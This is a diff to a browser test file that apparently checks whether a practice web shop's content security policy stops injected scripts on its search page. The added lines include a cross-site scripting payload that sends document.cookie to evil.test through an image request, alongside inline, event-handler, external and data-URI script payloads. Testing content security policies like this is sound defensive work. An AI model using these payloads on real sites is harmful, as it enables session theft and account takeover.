@@ -11,7 +11,7 @@ from playwright.sync_api import Page
 
 from helpers import browser, web
 from helpers.exercises.arrivals import BY_HTTP, CURL, FIREFOX, OTHER_NAME
-from helpers.exercises.first_policy import PLACES
+from helpers.exercises.search_shop import PLACES
 from tests.chromium.attempts import SAID_BY_VISITORS, followed
 
 RAN = "document.documentElement.dataset.{} = 'ran'"
@@ -19,6 +19,10 @@ FOREIGN = ("evil.test", "cdn.jsdelivr.net", "other.test")
 INLINE = f'<script>{RAN.format("inline")}</script><img src=x onerror="{RAN.format("handler")}">'
 ELSEWHERE = "".join(f"<script src=https://{name}/x.js></script>" for name in FOREIGN)
 DATA = f'<script src="data:text/javascript,{RAN.format("foreign")}"></script>'
+OF_THE_LESSON = """<script>
+document.querySelector("p").textContent = "Please wait"
+new Image().src = "https://evil.test/?" + document.cookie
+</script>"""
 PAYLOADS = (INLINE, ELSEWHERE, DATA)
 CSP = "content-security-policy"
 
@@ -51,7 +55,7 @@ def _look(page: Page) -> dict[str, object]:
     known = page.goto("https://shop.test/search?q=mocha")
     nonce = re.search("'nonce-([^']*)'", known.headers.get(CSP, "") if known else "")
     with_nonce = f'<script nonce="{nonce[1] if nonce else ""}">{RAN.format("inline")}</script>'
-    for payload in (*PAYLOADS, with_nonce):
+    for payload in (*PAYLOADS, OF_THE_LESSON, with_nonce):
         for path in ("/search?q=", "/"):
             response = page.goto(f"https://shop.test{path}{quote(payload)}")
             ran |= _ran(page)
@@ -116,7 +120,8 @@ def _led(page: Page, url: str) -> set[str]:
     return ran | _ran(page)
 
 
-DATASET = "({...document.documentElement.dataset})"
+DATASET = """({...document.documentElement.dataset,
+  ...(document.querySelector("p")?.textContent == "Please wait" && {inline: "ran"})})"""
 
 
 def _ran(page: Page) -> set[str]:
